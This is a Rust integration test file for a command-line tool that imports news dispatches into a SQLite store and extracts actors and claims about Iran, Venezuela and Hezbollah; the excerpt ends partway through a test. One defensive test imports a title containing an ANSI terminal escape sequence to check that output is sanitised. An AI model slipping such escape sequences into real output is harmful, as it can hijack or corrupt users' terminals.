//! The command line as a person runs it: a real process over a real store file.

use std::path::Path;
use std::process::{Command, Output};

fn dossier(db: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
        .arg("--db")
        .arg(db)
        .args(args)
        .env_remove("DOSSIER_DB")
        .output()
        .expect("the CLI runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

/// Runs the CLI and returns what it printed, failing the test when it fails.
fn succeed(db: &Path, args: &[&str]) -> String {
    let run = dossier(db, args);
    assert!(run.status.success(), "{args:?}: {}", stderr(&run));
    stdout(&run)
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

const DISPATCH: &str = "Caracas and Tehran sign a defence pact\n\n\
Venezuela and Iran signed a military cooperation agreement in June 2023, \
state media reported. Hezbollah operatives were allegedly present.\n";

#[test]
fn init_creates_the_store_and_stats_counts_every_table() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("sub/library.dossier");
    let init = dossier(&db, &["init"]);
    assert!(init.status.success(), "{}", stderr(&init));
    assert!(stdout(&init).contains("store ready"));
    assert!(db.exists());

    let stats = dossier(&db, &["stats", "--json"]);
    let value: serde_json::Value = serde_json::from_slice(&stats.stdout).unwrap();
    for table in ["sources", "actors", "aliases", "mentions", "claims", "citations", "notes"] {
        assert_eq!(value[table], 0, "{table} in {value}");
    }
}

#[test]
fn imported_files_are_listed_and_searchable() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("pact.txt");
    std::fs::write(&file, DISPATCH).unwrap();

    let import = dossier(&db, &["import", file.to_str().unwrap()]);
    assert!(import.status.success(), "{}", stderr(&import));
    assert!(stdout(&import).contains("1 imported, 0 duplicate, 0 failed"), "{}", stdout(&import));

    let list = dossier(&db, &["list", "sources", "--json"]);
    let page: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    assert_eq!(page["total"], 1);
    assert_eq!(page["items"][0]["title"], "Caracas and Tehran sign a defence pact");
    assert_eq!(page["items"][0]["media_type"], "text/plain");

    let human = dossier(&db, &["list", "sources"]);
    assert!(stdout(&human).contains("Caracas and Tehran sign a defence pact"));

    let search = dossier(&db, &["search", "allegedly", "--json"]);
    let hits: serde_json::Value = serde_json::from_slice(&search.stdout).unwrap();
    assert_eq!(hits["total"], 1);
    assert_eq!(hits["items"][0]["kind"], "source");

    let again = dossier(&db, &["import", "--json", file.to_str().unwrap()]);
    let report: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!(report["duplicates"], 1);
    assert_eq!(report["files"][0]["outcome"], "duplicate");
}

#[test]
fn a_failed_file_is_reported_by_name_and_exits_1_while_the_rest_import() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let good = dir.path().join("good.txt");
    let empty = dir.path().join("empty.txt");
    std::fs::write(&good, DISPATCH).unwrap();
    std::fs::write(&empty, "").unwrap();
    let import = dossier(&db, &["import", good.to_str().unwrap(), empty.to_str().unwrap()]);
    assert_eq!(import.status.code(), Some(1));
    let printed = stdout(&import);
    assert!(printed.contains("failed     empty file") && printed.contains("empty.txt"), "{printed}");
    assert!(printed.contains("1 imported, 0 duplicate, 1 failed"), "{printed}");
}

#[test]
fn a_file_that_is_not_a_store_exits_1_with_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("essay.txt");
    std::fs::write(&db, "Not a database at all. ".repeat(100)).unwrap();
    let stats = dossier(&db, &["stats"]);
    assert_eq!(stats.status.code(), Some(1));
    let message = stderr(&stats);
    assert_eq!(message.lines().count(), 1, "{message}");
    assert!(message.contains("is not a Dossier store"), "{message}");
}

#[test]
fn usage_errors_exit_1_and_help_exits_0() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let wrong = dossier(&db, &["list", "everything"]);
    assert_eq!(wrong.status.code(), Some(1));
    assert_eq!(stderr(&wrong).lines().count(), 1, "{}", stderr(&wrong));
    let help = dossier(&db, &["--help"]);
    assert!(help.status.success());
    assert!(stdout(&help).contains("import"));
}

#[test]
fn the_store_can_be_chosen_with_the_environment() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("from-env.dossier");
    let output = Command::new(env!("CARGO_BIN_EXE_dossier-cli")).arg("init").env("DOSSIER_DB", &db).output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(db.exists());
}

#[test]
fn the_default_store_lives_in_the_app_data_folder() {
    let dir = tempfile::tempdir().unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
        .arg("init")
        .env_remove("DOSSIER_DB")
        .env("HOME", dir.path())
        .env("XDG_DATA_HOME", dir.path().join("data"))
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(dir.path().join("data/org.dossier.desktop/library.dossier").exists());
}

#[test]
fn hostile_titles_print_on_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("evil.txt");
    std::fs::write(&file, "Title\u{1b}[2J with escape\n\nbody").unwrap();
    assert!(dossier(&db, &["import", file.to_str().unwrap()]).status.success());
    let list = stdout(&dossier(&db, &["list", "sources"]));
    assert!(!list.contains('\u{1b}'), "{list:?}");
    assert!(list.contains("\\u{1b}[2J with escape"), "{list:?}");
}

fn fixtures() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures")
}

#[test]
fn html_pages_are_read_in_worker_processes_and_reported_as_json() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let deep = dir.path().join("deep.html");
    std::fs::write(&deep, format!("<html><body>{}<p>still here</p></body></html>", "<div>".repeat(100_000))).unwrap();
    let html = fixtures().join("html");
    let import = dossier(&db, &["import", "--json", html.to_str().unwrap(), deep.to_str().unwrap()]);
    assert!(import.status.success(), "{}", stderr(&import));
    let report: serde_json::Value = serde_json::from_slice(&import.stdout).unwrap();
    assert_eq!((report["imported"].as_i64(), report["failed"].as_i64()), (Some(3), Some(0)), "{report}");
    assert!(stderr(&import).is_empty(), "a piped import draws no progress bar: {}", stderr(&import));

    let list = dossier(&db, &["list", "sources", "--json"]);
    let page: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    let titles: Vec<&str> = page["items"].as_array().unwrap().iter().map(|s| s["title"].as_str().unwrap()).collect();
    assert!(titles.contains(&"Acuerdo portuario entre Irán y Venezuela inquieta a Washington"), "{titles:?}");
    assert!(titles.contains(&"deep"), "{titles:?}");
}

/// The crash test: a 1,000-file import through the CLI is killed with SIGKILL at 20
/// moments; after each kill the store passes SQLite's integrity check, every source in it
/// is whole (text, original, index entry, suggestions) with nothing pointing at a source
/// that is not there, and the next run goes on; a last run completes the set.
#[test]
fn twenty_kills_during_a_thousand_file_import_lose_nothing_and_a_rerun_completes_it() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let folder = dir.path().join("drop");
    std::fs::create_dir_all(&folder).unwrap();
    for i in 0..1000 {
        std::fs::write(
            folder.join(format!("{i:04}.txt")),
            format!("Dispatch {i}\n\nIran signed a cooperation agreement with Venezuela in 2022, officials said. Guaira {i}.\n"),
        )
        .unwrap();
    }
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut random = |low: u64, high: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        low + seed % (high - low)
    };
    let mut counts = Vec::new();
    for _ in 0..20 {
        let mut child = Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
            .args(["--db", db.to_str().unwrap(), "import", "--threads", "2", folder.to_str().unwrap()])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(random(10, 60)));
        child.kill().unwrap(); // SIGKILL
        child.wait().unwrap();

        let conn = rusqlite::Connection::open(&db).unwrap();
        let check: String = conn.query_row("PRAGMA integrity_check", [], |r| r.get(0)).unwrap();
        assert_eq!(check, "ok");
        let count = |sql: &str| -> i64 { conn.query_row(sql, [], |r| r.get(0)).unwrap() };
        let sources = count("SELECT count(*) FROM sources");
        let whole = count(
            "SELECT count(*) FROM sources s WHERE length(s.text) > 0
               AND EXISTS (SELECT 1 FROM source_originals o WHERE o.source_id = s.id)
               AND EXISTS (SELECT 1 FROM suggestions g WHERE g.source_id = s.id)
               AND (SELECT count(*) FROM sources_fts WHERE sources_fts MATCH 'Guaira' AND rowid = s.id) = 1",
        );
        assert_eq!(whole, sources, "every source present is whole");
        for table in ["source_originals", "suggestions", "mentions", "citations"] {
            let orphans = count(&format!(
                "SELECT count(*) FROM {table} x WHERE NOT EXISTS (SELECT 1 FROM sources s WHERE s.id = x.source_id)"
            ));
            assert_eq!(orphans, 0, "{table} pointing at no source");
        }
        counts.push(sources);
    }
    eprintln!("sources after each of the 20 kills: {counts:?}");
    assert!(counts.windows(2).all(|w| w[0] <= w[1]), "nothing is lost between kills: {counts:?}");
    assert!(counts[0] < 1000, "the first kill came too late to test anything: {counts:?}");

    let last = dossier(&db, &["import", "--json", folder.to_str().unwrap()]);
    let report: serde_json::Value = serde_json::from_slice(&last.stdout).unwrap();
    assert_eq!(report["imported"].as_i64().unwrap() + report["duplicates"].as_i64().unwrap(), 1000);
    let stats: serde_json::Value = serde_json::from_slice(&dossier(&db, &["stats", "--json"]).stdout).unwrap();
    assert_eq!(stats["sources"], 1000, "the set is complete after {counts:?}");
}

#[test]
fn eval_import_reports_rates_for_a_folder_of_test_pages() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("harbor");
    std::fs::create_dir_all(&page).unwrap();
    std::fs::copy(fixtures().join("html/harbor-deal.html"), page.join("source.html")).unwrap();
    std::fs::write(
        page.join("expected.html"),
        "<p>La cancillería iraní no respondió a las solicitudes de comentario.</p>",
    )
    .unwrap();
    std::fs::write(
        page.join("expected-metadata.json"),
        r#"{"title": "Acuerdo portuario entre Irán y Venezuela inquieta a Washington", "byline": "Someone Else",
            "siteName": "Diario del Caribe", "publishedTime": "2023-06-14T13:12:00Z"}"#,
    )
    .unwrap();
    let eval = dossier(&dir.path().join("unused.dossier"), &["eval-import", "--json", dir.path().to_str().unwrap()]);
    assert!(eval.status.success(), "{}", stderr(&eval));
    let figures: serde_json::Value = serde_json::from_slice(&eval.stdout).unwrap();
    assert_eq!(figures["pages"], 1);
    assert_eq!(figures["title_rate"], 1.0);
    assert_eq!(figures["byline_rate"], 0.0, "a wrong byline counts as a miss");
    assert_eq!(figures["site_name_rate"], 1.0);
    assert_eq!(figures["published_rate"], 1.0);
    assert_eq!(figures["mean_recall"], 1.0);
    assert!(figures["mean_precision"].as_f64().unwrap() < 0.2, "the whole article against one sentence");
}

/// The readability test pages beside the project: the targets of the import issue.
#[test]
fn html_import_meets_its_targets_on_the_readability_test_pages() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/readability-test-pages");
    if !corpus.is_dir() {
        eprintln!("SKIPPED: {} is absent; the import evaluation needs ../shared beside the project", corpus.display());
        return;
    }
    let scratch = tempfile::tempdir().unwrap();
    let eval = dossier(&scratch.path().join("unused.dossier"), &["eval-import", "--json", corpus.to_str().unwrap()]);
    assert!(eval.status.success(), "{}", stderr(&eval));
    let f: serde_json::Value = serde_json::from_slice(&eval.stdout).unwrap();
    let rate = |k: &str| f[k].as_f64().unwrap();
    eprintln!(
        "eval-import: {} pages, title {:.3}, byline {:.3}, published {:.3}, site name {:.3}, body F1 {:.4}",
        f["pages"],
        rate("title_rate"),
        rate("byline_rate"),
        rate("published_rate"),
        rate("site_name_rate"),
        rate("mean_f1")
    );
    assert_eq!(f["pages"], 130);
    assert!(rate("title_rate") >= 0.95);
    assert!(rate("byline_rate") >= 0.95);
    assert!(rate("published_rate") >= 0.95);
    assert!(rate("mean_f1") >= 0.98);
}

/// As root every file is readable, so an unprivileged user runs the import here.
#[cfg(unix)]
#[test]
fn an_unreadable_file_fails_with_permission_denied_as_an_ordinary_user() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc_geteuid() } != 0 {
        eprintln!("SKIPPED: not root; the core tests cover unreadable files for this user");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let program = dir.path().join("dossier-cli");
    std::fs::copy(env!("CARGO_BIN_EXE_dossier-cli"), &program).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "Not for you.").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();
    let open = dir.path().join("open.txt");
    std::fs::write(&open, "Open dispatch\n\nAnyone may read this.").unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o644)).unwrap();
    let output = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&program)
        .args(["--db", dir.path().join("library.dossier").to_str().unwrap(), "import", "--json"])
        .args([&secret, &open])
        .env("HOME", dir.path())
        .output()
        .expect("setpriv runs");
    let report: serde_json::Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", stderr(&output)));
    let files = report["files"].as_array().unwrap();
    let secret_outcome = files.iter().find(|f| f["path"].as_str().unwrap().ends_with("secret.txt")).unwrap();
    assert_eq!(secret_outcome["reason"], "permission denied", "{report}");
    assert_eq!(report["imported"], 1, "{report}");
}

unsafe extern "C" {
    #[link_name = "geteuid"]
    fn libc_geteuid() -> u32;
}

/// The seed article beside the project, scored against its hand-made gold.
#[test]
fn extraction_meets_its_targets_on_the_seed_article() {
    let seed = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/seed");
    if !seed.join("gold.json").is_file() {
        eprintln!(
            "SKIPPED: {} is absent; the extraction evaluation needs ../shared beside the project",
            seed.display()
        );
        return;
    }
    let scratch = tempfile::tempdir().unwrap();
    let eval = dossier(
        &scratch.path().join("unused.dossier"),
        &[
            "eval-extract",
            "--json",
            seed.join("gold.json").to_str().unwrap(),
            seed.join("article.txt").to_str().unwrap(),
        ],
    );
    assert!(eval.status.success(), "{}", stderr(&eval));
    let f: serde_json::Value = serde_json::from_slice(&eval.stdout).unwrap();
    let rate = |k: &str| f[k].as_f64().unwrap();
    eprintln!(
        "eval-extract: actors P {:.3} R {:.3}, kinds {:.3}, speakers {:.3}, dates {:.3}",
        rate("actor_precision"),
        rate("actor_recall"),
        rate("kind_accuracy"),
        rate("speaker_accuracy"),
        rate("date_accuracy")
    );
    assert!(rate("actor_recall") >= 0.95, "{f}");
    assert!(rate("actor_precision") >= 0.90, "{f}");
    assert!(rate("kind_accuracy") >= 0.90, "{f}");
    assert!(rate("speaker_accuracy") >= 0.90, "{f}");
    assert!(rate("date_accuracy") >= 0.90, "{f}");
    eprintln!(
        "eval-extract: claims found {:.3}, relation accuracy {:.3}, {:.2} suggestions per gold claim",
        rate("claims_found"),
        rate("relation_accuracy"),
        rate("suggestions_per_gold_claim")
    );
    assert!(rate("claims_found") >= 0.80, "{f}");
    assert!(rate("relation_accuracy") >= 0.70, "{f}");
    assert!(rate("suggestions_per_gold_claim") <= 2.0, "{f}");
    // Measured at 0.821 (23 of 28) when claim dates were first judged.
    assert!(rate("claim_date_accuracy") >= 0.80, "{f}");
}

/// The detector of republished copies meets the issue's targets (precision ≥ 0.95,
/// recall ≥ 0.90) on the tuning half of our test set; the held-out half is measured, not
/// asserted, so that nothing is tuned on it.
#[test]
fn republished_copies_are_found_with_their_targets_on_the_tuning_half() {
    let dir = fixtures().join("copies/tuning");
    let scratch = tempfile::tempdir().unwrap();
    // Every pair compared, and what the store makes of them (its index, its groups).
    for how in [None, Some("--store")] {
        let mut args = vec!["eval-copies", "--json", dir.to_str().unwrap()];
        args.extend(how);
        let eval = dossier(&scratch.path().join("unused.dossier"), &args);
        assert!(eval.status.success(), "{}", stderr(&eval));
        let scores: serde_json::Value = serde_json::from_slice(&eval.stdout).unwrap();
        let count = |k: &str| scores[k].as_f64().unwrap();
        assert!(count("copies") >= 40.0 && count("pairs") > 800.0, "{scores}");
        let (precision, recall) = (count("right") / count("found"), count("right") / count("copies"));
        eprintln!("eval-copies {how:?} (tuning): precision {precision:.3}, recall {recall:.3}");
        assert!(precision >= 0.95 && recall >= 0.90, "{how:?}: precision {precision:.3}, recall {recall:.3}: {scores}");
    }
    assert!(!scratch.path().join("unused.dossier").exists(), "the store's evaluation keeps no store");
}

/// A wire story and its republished copy import as two sources that count as one: the
/// network says "2 sources, 1 independent" until a person marks them independent, and
/// the mark is listed, undone like any change, and refused for a source not there.
#[test]
fn copies_are_listed_and_a_persons_word_changes_the_independent_count() {
    let scratch = tempfile::tempdir().unwrap();
    let db = scratch.path().join("library.dossier");
    let story =
        |variant: &str| fixtures().join(format!("copies/tuning/hezbollah-exchange-houses-sanctions.{variant}.txt"));
    let (wire, republished) = (story("wire"), story("republished"));
    succeed(&db, &["import", wire.to_str().unwrap()]);
    succeed(&db, &["import", republished.to_str().unwrap()]);
    let listed = succeed(&db, &["copies"]);
    assert!(listed.starts_with("#2     copies #1     found: wording "), "{listed}");
    assert!(listed.contains("your word: -"), "{listed}");
    let pairs: serde_json::Value = serde_json::from_str(&succeed(&db, &["copies", "--json"])).unwrap();
    assert_eq!(pairs[0]["detected"]["evidence"], "wording", "{pairs}");
    let of = succeed(&db, &["copies", "of", "1"]);
    assert!(of.starts_with("#2     one story "), "{of}");

    // The same claims, accepted in each: every edge they make stands on one story.
    for source in ["1", "2"] {
        succeed(&db, &["suggestions", "accept", "--source", source, "--all"]);
    }
    let network = succeed(&db, &["network"]);
    assert!(network.contains("opposes  Hezbollah  3 claims  2 sources, 1 independent"), "{network}");
    assert!(!network.contains(" 2 independent"), "{network}");
    assert!(succeed(&db, &["network", "--min-sources", "2"]).contains(" 0 edges"));

    let said = succeed(&db, &["copies", "mark", "2", "1", "independent"]);
    assert!(said.contains("independent: they count as two sources"), "{said}");
    assert!(succeed(&db, &["network"]).contains("opposes  Hezbollah  3 claims  2 sources, 2 independent"));
    assert!(succeed(&db, &["copies"]).contains("your word: independent"));
    let undone = succeed(&db, &["undo"]);
    assert!(undone.contains("as independent"), "{undone}");
    assert!(succeed(&db, &["network"]).contains("opposes  Hezbollah  3 claims  2 sources, 1 independent"));
    let refused = dossier(&db, &["copies", "mark", "1", "99", "copy"]);
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
}

/// Our own Spanish and Portuguese pieces (`tests/fixtures/extract/`), against their gold.
#[test]
fn extraction_meets_its_targets_on_our_english_spanish_and_portuguese_fixtures() {
    let dir = fixtures().join("extract");
    let scratch = tempfile::tempdir().unwrap();
    let eval = dossier(&scratch.path().join("unused.dossier"), &["eval-extract", "--json", dir.to_str().unwrap()]);
    assert!(eval.status.success(), "{}", stderr(&eval));
    let lines: Vec<serde_json::Value> = String::from_utf8(eval.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|l| l.get("name").is_some())
        .collect();
    assert!(lines.len() >= 2, "no fixtures scored in {}", dir.display());
    for line in &lines {
        let (name, f) = (&line["name"], &line["evaluation"]);
        let rate = |k: &str| f[k].as_f64().unwrap();
        for (key, target) in [
            ("actor_recall", 0.95),
            ("actor_precision", 0.90),
            ("kind_accuracy", 0.90),
            ("speaker_accuracy", 0.90),
            ("date_accuracy", 0.90),
        ] {
            assert!(rate(key) >= target, "{name}: {key} {} < {target}\n{f}", rate(key));
        }
    }
    // Claims, pooled over the fixtures whose gold lists them (a short piece states only a
    // few, so one piece alone says little).
    let with_claims: Vec<&serde_json::Value> =
        lines.iter().map(|l| &l["evaluation"]).filter(|f| f["claims_gold"].as_u64().unwrap() > 0).collect();
    assert!(with_claims.len() >= 3, "too few fixtures with gold claims");
    let sum = |k: &str| with_claims.iter().map(|f| f[k].as_f64().unwrap()).sum::<f64>();
    let gold = sum("claims_gold");
    let found = with_claims
        .iter()
        .map(|f| f["claims_found"].as_f64().unwrap() * f["claims_gold"].as_f64().unwrap())
        .sum::<f64>();
    let typed = with_claims
        .iter()
        .map(|f| {
            f["relation_accuracy"].as_f64().unwrap()
                * f["claims_found"].as_f64().unwrap()
                * f["claims_gold"].as_f64().unwrap()
        })
        .sum::<f64>();
    let (found_rate, relation_rate, per_gold) = (found / gold, typed / found, sum("claims_suggested") / gold);
    assert!(found_rate >= 0.80, "claims found {found_rate:.3} < 0.80");
    assert!(relation_rate >= 0.70, "relation accuracy {relation_rate:.3} < 0.70");
    assert!(per_gold <= 2.0, "{per_gold:.2} suggested claims per gold claim > 2");
}

#[test]
fn extract_prints_one_json_line_per_file_in_order_with_code_point_offsets() {
    let dir = tempfile::tempdir().unwrap();
    let article = fixtures().join("extract/es-cooperacion.txt");
    let page = fixtures().join("html/harbor-deal.html");
    let missing = dir.path().join("missing.txt");
    let output = Command::new(env!("CARGO_BIN_EXE_dossier-cli"))
        .args(["extract", "--json"])
        .args([&article, &missing, &page])
        .env_remove("DOSSIER_DB")
        .env("HOME", dir.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "a missing file makes the exit code 1");
    let lines: Vec<serde_json::Value> =
        String::from_utf8(output.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[1]["error"], "no such file or folder");
    assert!(!dir.path().join(".local").exists(), "extract without --db creates no store");

    for line in [&lines[0], &lines[2]] {
        let text: Vec<char> = line["source"]["text"].as_str().unwrap().chars().collect();
        let cut = |span: &serde_json::Value| -> String {
            text[span["start"].as_u64().unwrap() as usize..span["end"].as_u64().unwrap() as usize].iter().collect()
        };
        for actor in line["actors"].as_array().unwrap() {
            let surfaces: Vec<&str> =
                actor["surfaces"].as_array().unwrap().iter().map(|s| s.as_str().unwrap()).collect();
            for mention in actor["mentions"].as_array().unwrap() {
                assert!(surfaces.contains(&cut(mention).as_str()), "{actor}");
            }
        }
        for claim in line["claims"].as_array().unwrap() {
            assert_eq!(cut(&claim["citation"]), claim["citation"]["exact"].as_str().unwrap());
        }
    }
    let maduro = lines[0]["actors"].as_array().unwrap().iter().find(|a| a["name"] == "Nicolás Maduro").unwrap();
    assert_eq!(maduro["kind"], "person");
    assert_eq!(lines[0]["quotes"][0]["speaker"], "Nicolás Maduro");
    assert_eq!(lines[0]["dates"][0]["edtf"], "2022-06");
    assert_eq!(lines[2]["source"]["title"], "Acuerdo portuario entre Irán y Venezuela inquieta a Washington");
    assert!(lines[0]["claims"].as_array().unwrap().iter().any(|c| c["relation"] == "cooperates_with"));
}

#[cfg(unix)]
#[test]
fn a_reader_closing_the_pipe_early_is_not_an_error() {
    let output = Command::new("sh")
        .arg("-c")
        .arg(format!("'{}' extract --json \"$@\" | head -c 1 >/dev/null", env!("CARGO_BIN_EXE_dossier-cli")))
        .arg("sh")
        .args(std::iter::repeat_n(fixtures().join("extract/es-cooperacion.txt"), 200))
        .env_remove("DOSSIER_DB")
        .output()
        .unwrap();
    assert!(stderr(&output).is_empty(), "{}", stderr(&output));
}

#[test]
fn imported_articles_bring_suggestions_that_can_be_listed_and_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let article = fixtures().join("extract/pt-hezbollah.txt");
    assert!(dossier(&db, &["import", article.to_str().unwrap()]).status.success());
    let list = dossier(&db, &["suggestions", "list", "--kind", "actor", "--json"]);
    assert!(list.status.success(), "{}", stderr(&list));
    let page: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    let items = page["items"].as_array().unwrap();
    let ferreira = items.iter().find(|s| s["label"] == "Marcos Vinícius Ferreira (person)").expect("the delegate");
    let id = ferreira["id"].as_i64().unwrap().to_string();
    let reject = dossier(&db, &["suggestions", "reject", &id]);
    assert!(stdout(&reject).contains(&format!("rejected #{id}")));
    let rejected = dossier(&db, &["suggestions", "list", "--status", "rejected", "--json"]);
    let page: serde_json::Value = serde_json::from_slice(&rejected.stdout).unwrap();
    assert_eq!(page["total"], 1);
    let bad = dossier(&db, &["suggestions", "list", "--kind", "rumour"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("unknown kind"));
    // The list says how its total meets the count the app shows as waiting.
    let stats: serde_json::Value = serde_json::from_slice(&dossier(&db, &["stats", "--json"]).stdout).unwrap();
    let listed = stdout(&dossier(&db, &["suggestions", "list", "--limit", "500"]));
    let waiting = stats["suggestions"].as_i64().unwrap();
    assert!(listed.contains(&format!("\n{waiting} to review, and ")), "{listed}");
}

#[test]
fn accepting_every_suggestion_of_a_source_fills_the_library() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let article = fixtures().join("extract/pt-hezbollah.txt");
    assert!(dossier(&db, &["import", article.to_str().unwrap()]).status.success());
    let accept = dossier(&db, &["suggestions", "accept", "--source", "1", "--all"]);
    assert!(accept.status.success(), "{}", stderr(&accept));
    assert!(stdout(&accept).contains("claim #"), "{}", stdout(&accept));
    let stats: serde_json::Value = serde_json::from_slice(&dossier(&db, &["stats", "--json"]).stdout).unwrap();
    assert_eq!(stats["suggestions"], 0);
    assert!(stats["actors"].as_i64().unwrap() >= 8, "{stats}");
    assert!(stats["claims"].as_i64().unwrap() >= 1 && stats["citations"].as_i64().unwrap() >= 3, "{stats}");
    let hezbollah = dossier(&db, &["search", "Hezbollah", "--json"]);
    let hits: serde_json::Value = serde_json::from_slice(&hezbollah.stdout).unwrap();
    assert!(hits["items"].as_array().unwrap().iter().any(|h| h["kind"] == "actor"), "{hits}");
    let nothing = dossier(&db, &["suggestions", "accept"]);
    assert_eq!(nothing.status.code(), Some(1));
}

#[test]
fn an_alias_added_to_the_library_is_found_in_sources_already_imported() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let note = dir.path().join("note.txt");
    std::fs::write(&note, "Field note\n\nThe courier said the Cartel of the Suns paid him in Maracaibo.").unwrap();
    assert!(dossier(&db, &["import", note.to_str().unwrap()]).status.success());
    let add = dossier(&db, &["actors", "add", "Cartel de los Soles", "--kind", "armed_group"]);
    assert!(add.status.success(), "{}", stderr(&add));
    let before: serde_json::Value =
        serde_json::from_slice(&dossier(&db, &["suggestions", "list", "--kind", "actor", "--json"]).stdout).unwrap();
    assert!(!before["items"].as_array().unwrap().iter().any(|s| s["label"] == "Cartel de los Soles (armed_group)"));

    let alias = dossier(&db, &["actors", "alias", "add", "Cartel de los Soles", "Cartel of the Suns"]);
    assert!(stdout(&alias).contains("sources analysed again"), "{}", stderr(&alias));
    let after: serde_json::Value =
        serde_json::from_slice(&dossier(&db, &["suggestions", "list", "--kind", "actor", "--json"]).stdout).unwrap();
    assert!(
        after["items"].as_array().unwrap().iter().any(|s| s["label"] == "Cartel de los Soles (armed_group)"),
        "{after}"
    );

    let unknown = dossier(&db, &["actors", "alias", "add", "Nobody", "X"]);
    assert_eq!(unknown.status.code(), Some(1));
    assert!(stderr(&unknown).contains("no actor is called"));
    let again = dossier(&db, &["reanalyze", "--all"]);
    assert!(stdout(&again).starts_with("analysed 1 sources"), "{}", stdout(&again));
}

#[test]
fn actors_merge_unmerge_split_and_link_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("pact.txt");
    std::fs::write(&file, DISPATCH).unwrap();
    assert!(dossier(&db, &["import", file.to_str().unwrap()]).status.success());
    let ok = |args: &[&str]| succeed(&db, args);
    ok(&["actors", "add", "Hizballah", "--kind", "armed_group"]);
    ok(&["actors", "add", "Party of God", "--kind", "armed_group"]);
    let merged = ok(&["actors", "merge", "Hizballah", "Party of God"]);
    assert!(merged.starts_with("merged #2 \"Party of God\" into #1: 1 aliases added"), "{merged}");
    assert!(ok(&["actors", "merges"]).contains("\"Party of God\" into #1"));
    assert!(ok(&["actors", "unmerge", "1"]).contains("actor #2 \"Party of God\" is back"));
    assert_eq!(dossier(&db, &["actors", "unmerge", "1"]).status.code(), Some(1), "undone once only");

    // The dispatch says "Hezbollah": an alias makes it an unlinked mention, then a link.
    let alias = ok(&["actors", "alias", "add", "1", "Hezbollah"]);
    assert!(alias.contains("1 unlinked mentions in 1 sources"), "{alias}");
    let unlinked: serde_json::Value = serde_json::from_str(&ok(&["actors", "unlinked", "1", "--json"])).unwrap();
    assert_eq!(unlinked["items"][0]["surface"], "Hezbollah");
    assert_eq!(ok(&["actors", "link", "1"]).trim(), "1 mentions linked to actor #1");
    assert!(ok(&["actors", "unlinked", "1"]).contains("0 unlinked mentions"));
    let split = ok(&["actors", "split", "1", "Hezbollah"]);
    assert!(split.contains("split off #1 into actor #3: 1 mentions and 0 claims moved"), "{split}");
    assert_eq!(dossier(&db, &["actors", "merge", "1", "1"]).status.code(), Some(1));
}

#[test]
fn a_suggestion_is_edited_before_it_is_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("library.dossier");
    let file = dir.path().join("pact.txt");
    std::fs::write(&file, DISPATCH).unwrap();
    assert!(dossier(&db, &["import", file.to_str().unwrap()]).status.success());
    let claims: serde_json::Value =
        serde_json::from_slice(&dossier(&db, &["suggestions", "list", "--kind", "claim", "--json"]).stdout).unwrap();
    let id = claims["items"][0]["id"].to_string();
    let edit = dossier(&db, &["suggestions", "edit", &id, "--relation", "supplies", "--certainty", "alleged"]);
    assert!(stdout(&edit).contains(" supplies "), "{}{}", stdout(&edit), stderr(&edit));
